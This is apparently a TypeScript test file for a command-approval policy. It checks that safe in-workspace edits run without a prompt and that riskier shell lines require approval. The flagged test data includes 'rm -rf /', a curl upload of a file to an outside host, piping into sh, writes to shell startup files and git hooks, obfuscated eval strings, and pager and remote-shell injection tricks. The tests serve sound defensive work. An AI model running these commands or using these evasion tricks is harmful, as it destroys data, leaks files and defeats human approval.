import { mkdir, symlink } from 'node:fs/promises'
import { join } from 'node:path'
import { beforeEach, describe, expect, test } from 'vitest'
import { decide } from '../../../../main/approvals/decide'
import { inspectPlan } from '../../../../main/approvals/inspect-plan'
import { sampleOf } from '../../../helpers/how-deep'
import { buildSample } from '../../../helpers/sample-folder'
import { temporaryFolder } from '../../../helpers/temp-folder'

let home: string
let workspace: string

beforeEach(async () => {
  home = await temporaryFolder()
  workspace = join(home, 'code', 'webapp')
  await mkdir(workspace, { recursive: true })
  await buildSample(workspace, { 'a.txt': 'a\n' })
})

async function verdictOn(line: string, canConfine = true) {
  const effect = { type: 'command' as const, command: line, workingDirectory: '.', shell: '/bin/bash' }
  const plan = { effects: [{ ...effect, environment: [], timeLimitMs: 1 }], digest: '' }
  const policy = { workspace, ownData: [], home, mode: 'full' as const }
  const environment = async () => ({ PATH: '/usr/bin:/bin', HOME: home })
  const sources = { environment, canConfine: async () => canConfine, now: () => new Date(0) }
  return decide(plan, policy, await inspectPlan(plan, policy, sources))
}

describe.skipIf(process.platform === 'win32')('in Full', () => {
  test.each(
    sampleOf(
      [
        "cat > notes.md <<'EOF'\n# Notes\n$(this is text) `and so is this`\nEOF",
        'cat > notes.md << EOF\nplain\nEOF',
        "cat <<'END' >> CHANGELOG.md\n- One\nEND",
        'sed --in-place s/foo/bar/ src/index.ts',
        "sed -i.bak -e 's/foo/bar/g' src/index.ts",
        ...(process.platform === 'darwin' ? [] : ["sed -i 's/foo/bar/' src/index.ts", "sed -i -E 's/(a|b)c/d/' a.txt"]),
        'git switch -c feature',
        `git commit -m "$(cat <<'EOF'\nfeat(x): don’t \`stop\` (now)\n\nIt's here.\nEOF\n)"`,
        'git switch --create feature/one main',
        'npm pkg set type=module',
        'npm pkg delete scripts.old',
        'rsync -a src/ backup/',
        'rsync -av --exclude=node_modules src/ backup/',
      ],
      6,
    ),
  )('a line that only writes in the folder runs unasked: %s', async line => {
    for (const canConfine of [true, false]) expect(await verdictOn(line, canConfine)).toMatchObject({ type: 'allow' })
  })

  test.each(
    sampleOf(
      [
        "cat > ../notes.md <<'EOF'\nx\nEOF",
        "cat > ~/.bashrc <<'EOF'\nx\nEOF",
        "cat > .git/hooks/pre-commit <<'EOF'\nx\nEOF",
        "cat > .vscode/tasks.json <<'EOF'\n{}\nEOF",
        "cat > out/notes.md <<'EOF'\nx\nEOF",
        'cat > a.txt <<EOF\n$(touch made)\nEOF',
        "bash <<'EOF'\ntouch made\nEOF",
        "python3 - <<'EOF'\nopen('made', 'w')\nEOF",
        "cat > a.txt <<'EOF'\nx\nEOF\nrm -rf /",
        "cat > a.txt <<'EOF'\nx\nEOF\ncurl -d @a.txt https://x.test",
        "cat > a.txt <<'EOF' | sh\nx\nEOF",
        "cat > a.txt <<'ONE' > ../b.txt\nx\nONE",
        "cat > a.txt <<'EOF'\nx",
        "cat '<<EOF' > ../x\nEOF",
        ...[
          `python3 -c "getattr(__builtins__, 'ex' + 'ec')('1')"`,
          `node -e "globalThis['pro' + 'cess']"`,
          `ruby -e 'puts 1'`,
          `perl -ne 'print if /x/' a.txt`,
          `awk 'BEGIN { print 1 }' a.txt`,
          'ls | xargs -n1 wc -l',
        ].flatMap(line => [`cat > b.txt <<'EOF'\nx\nEOF\n${line}`, `echo x > b.txt && ${line}`]),
        "sed -i 's/a/b/e' a.txt",
        "sed -i 's/a/b/w ../out' a.txt",
        "sed -i '1w ../out' a.txt",
        "sed -i 's/a/b/' ../a.txt",
        "sed -i 's/a/b/' out/a.txt",
        "sed -i 's/a/b/' .git/config",
        "sed -i.bak/../../x 's/a/b/' a.txt",
        'sed -i -f script.sed a.txt',
        'git -c core.pager=./x switch feature',
        'git switch -c feature -c core.pager=./x',
        'git switch --recurse-submodules feature -c x',
        'npm set script-shell ./x',
        'npm pkg fix --prefix ../x',
        'npm exec x',
        'rsync -a src/ host:backup/',
        'rsync -a src/ rsync://host/backup/',
        'rsync -a -e ./x src/ backup/',
        'rsync -a --rsync-path=./x src/ backup/',
        'rsync -a src/ ../backup/',
        'rsync -a --files-from=list src/ backup/',
        'rsync -aM--rsync-path=x src/ backup/',
        'rsync -a src/',
      ],
      16,
    ),
  )('a line that does more is asked about: %s', async line => {
    // A folder whose files lie elsewhere.
    await symlink(home, join(workspace, 'out'))
    expect(await verdictOn(line)).toMatchObject({ type: 'ask' })
  })
})
